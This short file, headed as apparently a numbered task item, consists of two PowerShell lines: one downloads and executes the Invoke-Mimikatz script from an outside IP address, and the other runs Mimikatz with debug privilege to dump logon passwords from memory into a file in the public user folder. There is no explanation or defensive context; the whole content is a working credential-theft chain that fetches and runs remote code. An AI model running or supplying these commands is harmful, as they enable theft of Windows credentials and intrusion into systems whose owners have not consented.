# task 4371 v1
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/Invoke-Mimikatz.ps1')
Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-File C:\Users\Public\o.txt
